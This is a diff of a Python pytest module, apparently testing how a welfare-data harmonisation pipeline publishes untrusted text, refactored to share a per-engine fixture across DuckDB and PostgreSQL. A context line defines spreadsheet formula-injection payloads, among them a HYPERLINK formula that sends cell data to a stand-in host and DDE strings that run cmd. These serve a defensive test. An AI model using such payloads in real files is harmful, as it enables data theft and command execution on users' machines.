@@ -25,7 +25,8 @@ from tests.builders import DESA, KAB, nik, query_rows, write_xlsx
 from tests.harmonise.test_dtsen import ANGGOTA, KELUARGA
 from tests.harmonise.test_run import DTKS, P3KE_ANGGOTA, P3KE_KELUARGA
 
-pytestmark = pytest.mark.timeout(900)
+# the published warehouse of each engine is built once for the module's tests: they stay on one worker
+pytestmark = [pytest.mark.timeout(900), pytest.mark.xdist_group("publish/test_untrusted_text")]
 
 PERIODE = "2026-11"
 PAYLOADS = ['=HYPERLINK("http://contoh.test/?d="&B2,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -105,8 +106,21 @@ def _anggaran() -> tuple[list[str], list[list[str]]]:
     return header, rows
 
 
-@pytest.fixture
-def published(tmp_path, warehouse_url) -> Settings:
+@pytest.fixture(scope="module", params=["duckdb", "postgresql"])
+def published(request, tmp_path_factory) -> Settings:
+    """One run of every stage per engine, shared by the module's tests (each only reads what it wrote)."""
+    import shutil
+
+    from tests.conftest import _create_database, _drop_database, _pg_url
+
+    tmp_path = tmp_path_factory.mktemp(f"untrusted-{request.param}")
+    if request.param == "duckdb":
+        shutil.copyfile(request.getfixturevalue("_duckdb_template"), tmp_path / "warehouse.duckdb")
+        warehouse_url = f"duckdb:///{tmp_path / 'warehouse.duckdb'}"
+    else:
+        name = _create_database(template=request.getfixturevalue("_pg_template"))
+        request.addfinalizer(lambda: _drop_database(name))
+        warehouse_url = _pg_url(name)
     settings = Settings(data_dir=tmp_path / "data", warehouse_url=warehouse_url)
     settings.ensure_folders()
     inbox = settings.folder("inbox") / KAB
